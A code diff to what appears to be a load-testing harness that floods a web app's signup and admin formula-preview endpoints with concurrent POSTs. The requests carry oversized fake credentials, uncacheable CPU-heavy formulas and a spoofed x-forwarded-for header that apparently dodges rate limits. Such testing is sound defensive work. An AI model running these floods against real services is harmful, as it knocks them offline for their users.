@@ -14,18 +14,24 @@ type Attack = (target: Target) => () => void;
 /** Makes the same call over and over, `atOnce` at a time, from one address. */
 function repeat(
   { address }: Target,
-  { path, body, token, atOnce }: { path: string; body: string; token?: string; atOnce: number },
+  {
+    path,
+    body: nextBody,
+    token,
+    atOnce,
+  }: { path: string; body: string | (() => string); token?: string; atOnce: number },
 ): () => void {
   const agent = new Agent({ keepAlive: true, maxSockets: atOnce });
-  const headers = {
-    'content-type': 'application/json',
-    'content-length': Buffer.byteLength(body),
-    'x-forwarded-for': '203.0.113.7',
-    ...(token && { authorization: `Bearer ${token}` }),
-  };
   let isOn = true;
   const again = () => {
     if (!isOn) return;
+    const body = typeof nextBody === 'string' ? nextBody : nextBody();
+    const headers = {
+      'content-type': 'application/json',
+      'content-length': Buffer.byteLength(body),
+      'x-forwarded-for': '203.0.113.7',
+      ...(token && { authorization: `Bearer ${token}` }),
+    };
     const sent = request(address + path, { method: 'POST', agent, headers }, (response) => {
       response.resume();
       response.once('close', again);
@@ -89,11 +95,28 @@ export const attacks: Record<string, Attack> = {
       body: JSON.stringify({ name: 'A', email: 'owner@demo.example', password: 'a wrong password' }),
       atOnce: 40,
     }),
+  'credentials that are none': (target) =>
+    repeat(target, {
+      path: '/user/googlesignup',
+      body: JSON.stringify({ email: 'a@b.example', name: 'A', credential: 'x'.repeat(8_000) }),
+      atOnce: 160,
+    }),
   'formulas that take long': (target) =>
     repeat(target, {
       path: '/adminexam/preview',
       token: target.adminToken,
-      body: JSON.stringify({ texts: [`$${'\\frac{1}{'.repeat(180)}1${'}'.repeat(180)}$`] }),
+      body: longFormulas,
       atOnce: 40,
     }),
 };
+
+let formulas = 0;
+
+/** A call with formulas that are set for milliseconds each and were never sent before. */
+function longFormulas(): string {
+  const texts = Array.from(
+    { length: 20 },
+    () => `$\\ce{${'Fe^3+ + SO4^2- -> '.repeat(60)}${++formulas}H2O}$`,
+  );
+  return JSON.stringify({ texts });
+}
